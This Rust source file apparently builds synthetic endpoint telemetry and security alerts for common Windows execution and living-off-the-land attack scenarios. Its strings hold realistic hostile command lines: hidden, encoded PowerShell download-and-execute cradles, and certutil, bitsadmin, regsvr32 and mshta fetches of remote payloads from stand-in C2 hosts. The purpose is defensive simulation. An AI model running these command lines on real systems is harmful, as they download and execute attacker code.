//! Execution and signed-binary proxy execution scenarios.

use super::{C2, DROP, Run, acx, encode_ps, ensure_session};
use crate::GenerateError;
use crate::alerts::{Alert, Evidence, Service, behavior, raise};
use crate::catalog::Bin;
use crate::ctx::{Dx, MIN, SEC, Spawn};
use crate::devevents::{Ev, event, powershell_command};
use crate::files::{FileOp, file, image_load};
use crate::network::{Conn, net};

type R = Result<(), GenerateError>;

/// `n` beacons from process `p` to the C2 over the following minutes.
pub(crate) fn beacon(
    dx: &mut Dx,
    p: usize,
    t: i64,
    host: &str,
    ip: &str,
    port: i64,
    n: usize,
) -> R {
    let mut tt = t;
    for _ in 0..n {
        tt += dx.rng.range(30 * SEC, 5 * MIN);
        let lp = dx.rng.range(49_152, 65_535);
        let conn = Conn {
            action: "ConnectionSuccess",
            remote_ip: ip,
            remote_port: port,
            url: host,
            local_port: lp,
            protocol: "Tcp",
            additional: "",
        };
        net(dx, p, tt, &conn)?;
    }
    Ok(())
}

pub fn encoded_powershell(r: &mut Run) -> R {
    let t = r.at();
    let mut dx = r.dx(r.p.device)?;
    let explorer = ensure_session(&mut dx, t)?;
    let script = format!(
        "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX ($wc.DownloadString('https://{}/api/v2/status'))",
        C2.0
    );
    let cmd = format!(
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {}",
        encode_ps(&script)
    );
    let ps = dx.spawn(
        explorer,
        Bin::Powershell,
        &cmd,
        t,
        Spawn {
            life: Some(20 * MIN),
            ..Default::default()
        },
    )?;
    let t0 = dx.st.procs[ps].create;
    for dll in [Bin::Amsi, Bin::Clr, Bin::Sma] {
        image_load(&mut dx, ps, t0 + SEC, dll)?;
    }
    for c in ["New-Object", "Invoke-Expression"] {
        powershell_command(&mut dx, ps, c)?;
    }
    beacon(&mut dx, ps, t0, C2.0, C2.1, 443, 6)?;
    let (dev, user) = (dx.dev, dx.fleet.users.get(dx.dev.primary_user));
    let proc_ = dx.st.procs[ps].clone();
    let mut cx = acx!(dx);
    let mut ev = vec![
        Evidence::Machine(dev),
        Evidence::Process(dev, &proc_),
        Evidence::Ip(C2.1),
        Evidence::Url(C2.0),
    ];
    if let Some(u) = user {
        ev.push(Evidence::User(u));
    }
    raise(
        &mut cx,
        &Alert {
            title: "Suspicious PowerShell command line",
            category: "Execution",
            severity: "Medium",
            service: Service::Endpoint,
            techniques: &[
                "PowerShell (T1059.001)",
                "Obfuscated Files or Information (T1027)",
            ],
            t: t0,
        },
        &ev,
    )?;
    behavior(
        &mut cx,
        dev,
        user,
        "EncodedPowerShellExecuted",
        "PowerShell ran a base64-encoded command",
        "Execution",
        "T1059.001",
        t0,
        t0 + MIN,
    )
}

pub fn certutil_download(r: &mut Run) -> R {
    let t = r.at();
    let mut dx = r.dx(r.p.device)?;
    let explorer = ensure_session(&mut dx, t)?;
    let cmd = dx.spawn(
        explorer,
        Bin::Cmd,
        r#""C:\Windows\system32\cmd.exe" "#,
        t,
        Spawn {
            life: Some(30 * MIN),
            ..Default::default()
        },
    )?;
    let url = format!("http://{}/payload.exe", DROP.1);
    let cc = format!(r"certutil.exe -urlcache -split -f {url} C:\Users\Public\payload.exe");
    let cu = dx.spawn(cmd, Bin::Certutil, &cc, t + 20 * SEC, Spawn::default())?;
    let t1 = dx.st.procs[cu].create;
    let conn = Conn {
        action: "ConnectionSuccess",
        remote_ip: DROP.1,
        remote_port: 80,
        url: &url,
        local_port: 50_112,
        protocol: "Tcp",
        additional: "",
    };
    net(&mut dx, cu, t1 + SEC, &conn)?;
    let h = dx.cat.hashes(Bin::Payload).clone();
    let path = r"C:\Users\Public\payload.exe";
    let op = FileOp {
        action: "FileCreated",
        path,
        sha1: Some(&h.sha1),
        sha256: Some(&h.sha256),
        md5: Some(&h.md5),
        size: Bin::Payload.def().size,
        origin_url: Some(&url),
        origin_ip: Some(DROP.1),
        ..Default::default()
    };
    file(&mut dx, cu, t1 + 2 * SEC, &op)?;
    let pl = dx.spawn(
        cmd,
        Bin::Payload,
        r"C:\Users\Public\payload.exe",
        t1 + 40 * SEC,
        Spawn {
            life: Some(2 * 3600 * SEC),
            ..Default::default()
        },
    )?;
    let t2 = dx.st.procs[pl].create;
    beacon(&mut dx, pl, t2, C2.0, C2.1, 443, 8)?;
    let dev = dx.dev;
    let (pc, pp) = (dx.st.procs[cu].clone(), dx.st.procs[pl].clone());
    let mut cx = acx!(dx);
    let ev = [
        Evidence::Machine(dev),
        Evidence::Process(dev, &pc),
        Evidence::File {
            dev,
            path,
            bin: Some(Bin::Payload),
        },
        Evidence::Process(dev, &pp),
        Evidence::Ip(DROP.1),
    ];
    raise(
        &mut cx,
        &Alert {
            title: "Suspicious file download using Certutil",
            category: "CommandAndControl",
            severity: "Medium",
            service: Service::Endpoint,
            techniques: &["Ingress Tool Transfer (T1105)"],
            t: t1,
        },
        &ev,
    )?;
    Ok(())
}

pub fn office_script_host(r: &mut Run) -> R {
    let t = r.at();
    let mut dx = r.dx(r.p.device)?;
    let explorer = ensure_session(&mut dx, t)?;
    let profile = dx.user_profile(dx.st.procs[explorer].acct).to_string();
    let outlook = match dx.find(crate::ctx::Role::Mail) {
        Some(o) => o,
        None => dx.spawn(
            explorer,
            Bin::Outlook,
            r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#,
            t - 30 * MIN,
            Spawn {
                role: Some(crate::ctx::Role::Mail),
                life: Some(4 * 3600 * SEC),
                ..Default::default()
            },
        )?,
    };
    let doc = format!(
        r"C:\Users\{profile}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7KD2N1M\Remittance_Advice_0923.docm"
    );
    let ww = dx.spawn(
        outlook,
        Bin::Winword,
        &format!(
            r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{doc}" /o """#
        ),
        t,
        Spawn {
            role: Some(crate::ctx::Role::Office),
            life: Some(30 * MIN),
            ..Default::default()
        },
    )?;
    let t0 = dx.st.procs[ww].create;
    image_load(&mut dx, ww, t0 + 3 * SEC, Bin::Vbe7)?;
    let vbs = format!(r"C:\Users\{profile}\AppData\Local\Temp\rem_0923.vbs");
    file(
        &mut dx,
        ww,
        t0 + 8 * SEC,
        &FileOp {
            action: "FileCreated",
            path: &vbs,
            size: 2_114,
            ..Default::default()
        },
    )?;
    let ws = dx.spawn(
        ww,
        Bin::Wscript,
        &format!(r#""C:\Windows\System32\WScript.exe" "{vbs}""#),
        t0 + 10 * SEC,
        Spawn::default(),
    )?;
    let add = r#"{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}"#;
    event(
        &mut dx,
        ww,
        t0 + 10 * SEC,
        &Ev {
            action: "AsrOfficeChildProcessAudited",
            file: Some(r"C:\Windows\System32\wscript.exe"),
            file_bin: Some(Bin::Wscript),
            target: Some(ws),
            additional: Some(add),
            ..Default::default()
        },
    )?;
    let script = format!("IEX (iwr -UseBasicParsing https://{}/s/stage2.ps1)", DROP.0);
    let ps = dx.spawn(
        ws,
        Bin::Powershell,
        &format!("powershell.exe -w hidden -nop -c \"{script}\""),
        t0 + 14 * SEC,
        Spawn {
            life: Some(10 * MIN),
            ..Default::default()
        },
    )?;
    powershell_command(&mut dx, ps, "Invoke-WebRequest")?;
    let t2 = dx.st.procs[ps].create;
    let conn = Conn {
        action: "ConnectionSuccess",
        remote_ip: DROP.1,
        remote_port: 443,
        url: DROP.0,
        local_port: 51_200,
        protocol: "Tcp",
        additional: "",
    };
    net(&mut dx, ps, t2 + 2 * SEC, &conn)?;
    let dev = dx.dev;
    let (pw, pws, pps) = (
        dx.st.procs[ww].clone(),
        dx.st.procs[ws].clone(),
        dx.st.procs[ps].clone(),
    );
    let user = dx.fleet.users.get(dev.primary_user);
    let mut cx = acx!(dx);
    let mut ev = vec![
        Evidence::Machine(dev),
        Evidence::Process(dev, &pw),
        Evidence::Process(dev, &pws),
        Evidence::Process(dev, &pps),
        Evidence::File {
            dev,
            path: &doc,
            bin: None,
        },
    ];
    if let Some(u) = user {
        ev.push(Evidence::User(u));
    }
    raise(
        &mut cx,
        &Alert {
            title: "Suspicious process launched by an Office application",
            category: "Execution",
            severity: "High",
            service: Service::Endpoint,
            techniques: &[
                "Malicious File (T1204.002)",
                "Visual Basic (T1059.005)",
                "PowerShell (T1059.001)",
            ],
            t: t0,
        },
        &ev,
    )?;
    Ok(())
}

pub fn regsvr32(r: &mut Run) -> R {
    let t = r.at();
    let mut dx = r.dx(r.p.device)?;
    let explorer = ensure_session(&mut dx, t)?;
    let cmd = dx.spawn(explorer, Bin::Cmd, r#""C:\Windows\system32\cmd.exe" /c regsvr32.exe /s /n /u /i:http://45.137.22.91/tasks/file.sct scrobj.dll"#, t, Spawn::default())?;
    let rs = dx.spawn(
        cmd,
        Bin::Regsvr32,
        "regsvr32.exe  /s /n /u /i:http://45.137.22.91/tasks/file.sct scrobj.dll",
        t + SEC,
        Spawn {
            life: Some(2 * MIN),
            ..Default::default()
        },
    )?;
    let t0 = dx.st.procs[rs].create;
    image_load(&mut dx, rs, t0 + SEC, Bin::Scrobj)?;
    image_load(&mut dx, rs, t0 + SEC, Bin::Jscript)?;
    let conn = Conn {
        action: "ConnectionSuccess",
        remote_ip: C2.1,
        remote_port: 80,
        url: "http://45.137.22.91/tasks/file.sct",
        local_port: 50_331,
        protocol: "Tcp",
        additional: "",
    };
    net(&mut dx, rs, t0 + 2 * SEC, &conn)?;
    let dev = dx.dev;
    let p = dx.st.procs[rs].clone();
    let mut cx = acx!(dx);
    raise(
        &mut cx,
        &Alert {
            title: "Suspicious Regsvr32 execution (Squiblydoo)",
            category: "DefenseEvasion",
            severity: "High",
            service: Service::Endpoint,
            techniques: &["Regsvr32 (T1218.010)"],
            t: t0,
        },
        &[
            Evidence::Machine(dev),
            Evidence::Process(dev, &p),
            Evidence::Ip(C2.1),
        ],
    )?;
    Ok(())
}

pub fn mshta(r: &mut Run) -> R {
    let t = r.at();
    let mut dx = r.dx(r.p.device)?;
    let explorer = ensure_session(&mut dx, t)?;
    let url = format!("http://{}/app/update.hta", C2.0);
    let m = dx.spawn(
        explorer,
        Bin::Mshta,
        &format!(r#""C:\Windows\System32\mshta.exe" {url}"#),
        t,
        Spawn {
            life: Some(5 * MIN),
            ..Default::default()
        },
    )?;
    let t0 = dx.st.procs[m].create;
    let conn = Conn {
        action: "ConnectionSuccess",
        remote_ip: C2.1,
        remote_port: 80,
        url: &url,
        local_port: 50_777,
        protocol: "Tcp",
        additional: "",
    };
    net(&mut dx, m, t0 + SEC, &conn)?;
    image_load(&mut dx, m, t0 + SEC, Bin::Vbscript)?;
    let ps = dx.spawn(m, Bin::Powershell, &format!("powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('http://{}/app/a'))\"", C2.0), t0 + 4 * SEC, Spawn { life: Some(10 * MIN), ..Default::default() })?;
    powershell_command(&mut dx, ps, "New-Object")?;
    beacon(&mut dx, ps, t0 + 5 * SEC, C2.0, C2.1, 80, 3)?;
    let dev = dx.dev;
    let (pm, pp) = (dx.st.procs[m].clone(), dx.st.procs[ps].clone());
    let mut cx = acx!(dx);
    raise(
        &mut cx,
        &Alert {
            title: "Suspicious Mshta process launched",
            category: "DefenseEvasion",
            severity: "Medium",
            service: Service::Endpoint,
            techniques: &["Mshta (T1218.005)", "PowerShell (T1059.001)"],
            t: t0,
        },
        &[
            Evidence::Machine(dev),
            Evidence::Process(dev, &pm),
            Evidence::Process(dev, &pp),
            Evidence::Url(&url),
        ],
    )?;
    Ok(())
}

pub fn bitsadmin_rundll32(r: &mut Run) -> R {
    let t = r.at();
    let mut dx = r.dx(r.p.device)?;
    let explorer = ensure_session(&mut dx, t)?;
    let cmd = dx.spawn(
        explorer,
        Bin::Cmd,
        r#""C:\Windows\system32\cmd.exe" "#,
        t,
        Spawn {
            life: Some(20 * MIN),
            ..Default::default()
        },
    )?;
    let url = format!("http://{}/dl/msvcp140_1.dll", DROP.1);
    let dst = r"C:\Users\Public\msvcp140_1.dll";
    let b = dx.spawn(
        cmd,
        Bin::Bitsadmin,
        &format!("bitsadmin /transfer updjob /download /priority high {url} {dst}"),
        t + 15 * SEC,
        Spawn::default(),
    )?;
    let t0 = dx.st.procs[b].create;
    let svc = dx.find(crate::ctx::Role::SvcNetsvcs).unwrap_or(b);
    let conn = Conn {
        action: "ConnectionSuccess",
        remote_ip: DROP.1,
        remote_port: 80,
        url: &url,
        local_port: 52_004,
        protocol: "Tcp",
        additional: "",
    };
    net(&mut dx, svc, t0 + 2 * SEC, &conn)?;
    let h = dx.cat.hashes(Bin::Beacon).clone();
    let op = FileOp {
        action: "FileCreated",
        path: dst,
        sha1: Some(&h.sha1),
        sha256: Some(&h.sha256),
        md5: Some(&h.md5),
        size: Bin::Beacon.def().size,
        origin_url: Some(&url),
        ..Default::default()
    };
    file(&mut dx, svc, t0 + 4 * SEC, &op)?;
    let rd = dx.spawn(
        cmd,
        Bin::Rundll32,
        &format!("rundll32.exe {dst},StartW"),
        t0 + 30 * SEC,
        Spawn {
            life: Some(3600 * SEC),
            ..Default::default()
        },
    )?;
    let t1 = dx.st.procs[rd].create;
    image_load(&mut dx, rd, t1 + SEC, Bin::Beacon)?;
    beacon(&mut dx, rd, t1, C2.0, C2.1, 443, 10)?;
    let dev = dx.dev;
    let (pb, pr) = (dx.st.procs[b].clone(), dx.st.procs[rd].clone());
    let mut cx = acx!(dx);
    raise(
        &mut cx,
        &Alert {
            title: "Suspicious BITS transfer followed by rundll32 execution",
            category: "DefenseEvasion",
            severity: "High",
            service: Service::Endpoint,
            techniques: &["BITS Jobs (T1197)", "Rundll32 (T1218.011)"],
            t: t0,
        },
        &[
            Evidence::Machine(dev),
            Evidence::Process(dev, &pb),
            Evidence::Process(dev, &pr),
            Evidence::File {
                dev,
                path: dst,
                bin: Some(Bin::Beacon),
            },
            Evidence::Ip(DROP.1),
        ],
    )?;
    Ok(())
}
